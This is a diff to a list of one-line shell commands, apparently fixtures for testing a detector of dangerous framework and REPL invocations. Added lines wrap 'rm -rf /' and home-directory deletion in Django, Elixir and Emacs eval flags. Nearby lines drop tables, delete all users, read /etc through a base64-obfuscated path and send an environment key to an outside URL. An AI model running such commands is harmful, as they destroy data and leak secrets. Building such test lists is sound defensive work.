@@ -30,6 +30,10 @@ python3 manage.py shell -c "User.objects.all().delete()"
 ./manage.py dbshell <<< 'drop table auth_user'
 php artisan tinker --execute="DB::table('users')->truncate();"
 mix run -e 'Repo.delete_all(User)'
+python3 manage.py shell --command='import os; os.system("rm -rf /")'
+mix run --eval='System.shell("rm -rf /")'
+iex --eval='System.cmd("rm", ["-rf", "/home"])'
+emacs --batch --eval='(delete-directory "~/" t)'
 heroku run 'rm -rf /app'
 fly ssh console -C 'psql -c "DROP TABLE x"'
 python3 -c "import base64;print(open(base64.b64decode('L2V0Yw==')).read())"
@@ -52,6 +56,8 @@ rails runner 'puts User.count'
 rails destroy controller Posts
 python manage.py shell -c "print(User.objects.count())"
 php artisan tinker --execute="echo User::count();"
+python manage.py shell --command="print(User.objects.count())"
+emacs --batch --eval='(message "hello")'
 node -e "console.log(process.env)"
 node -e "fetch('https://api.example.com', {headers: {a: process.env.KEY}})"
 python3 -c "import base64; print(base64.b64decode('aGk='))"
